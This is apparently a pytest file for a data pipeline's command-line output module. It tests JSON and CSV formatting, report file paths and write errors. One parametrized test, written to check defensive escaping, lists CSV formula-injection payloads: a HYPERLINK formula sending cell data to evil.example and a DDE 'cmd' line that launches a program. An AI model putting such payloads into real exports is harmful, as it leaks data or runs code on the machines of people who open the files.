"""Where answers go: programs get JSON and CSV, files are written whole, a page has a place of its own."""

import csv
import io

import pytest

from cdp_pipelines.cli.output import choose_page, format_csv, format_json, show_text
from cdp_pipelines.errors import CdpError


def test_json_and_csv_keep_numbers_and_lists():
    assert format_json({"count": 1234, "shares": (0.5, None)}) == (
        '{\n  "count": 1234,\n  "shares": [\n    0.5,\n    null\n  ]\n}\n'
    )
    assert format_csv(["a", "b"], [[1, ("x", "y")]]) == "a,b\r\n1,x; y\r\n"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "=1+1",
        "+SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\uff1d1",
        "+1;=1",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    (header, row) = csv.reader(io.StringIO(format_csv([text], [[text]]), newline=""))
    assert header == row == ["'" + text]
    assert list(csv.reader(io.StringIO(format_csv(["a"], [[text]], keep_formulas=True), newline="")))[1] == [text]


@pytest.mark.parametrize("cell", [-1, -1.5, "-1.5", "+49 (30) 12-34", "O'Neil", "a=b", "", None])
def test_numbers_phones_and_other_texts_stay_as_they_are(cell):
    (_, row) = csv.reader(io.StringIO(format_csv(["a", "b"], [[cell, 1]])))
    assert row == ["" if cell is None else str(cell), "1"]


def test_a_page_lies_in_the_reports_of_its_lake(tmp_path):
    assert choose_page(tmp_path, "lineage_golden/customer") == tmp_path / "reports" / "lineage_golden_customer.html"
    assert choose_page(tmp_path, "why", is_personal=True) == tmp_path / "reports" / "personal" / "why.html"


def test_a_file_that_cannot_be_written_is_an_error(tmp_path):
    with pytest.raises(CdpError, match="cannot be written: No such file or directory"):
        show_text("text", tmp_path / "missing" / "file", "title")
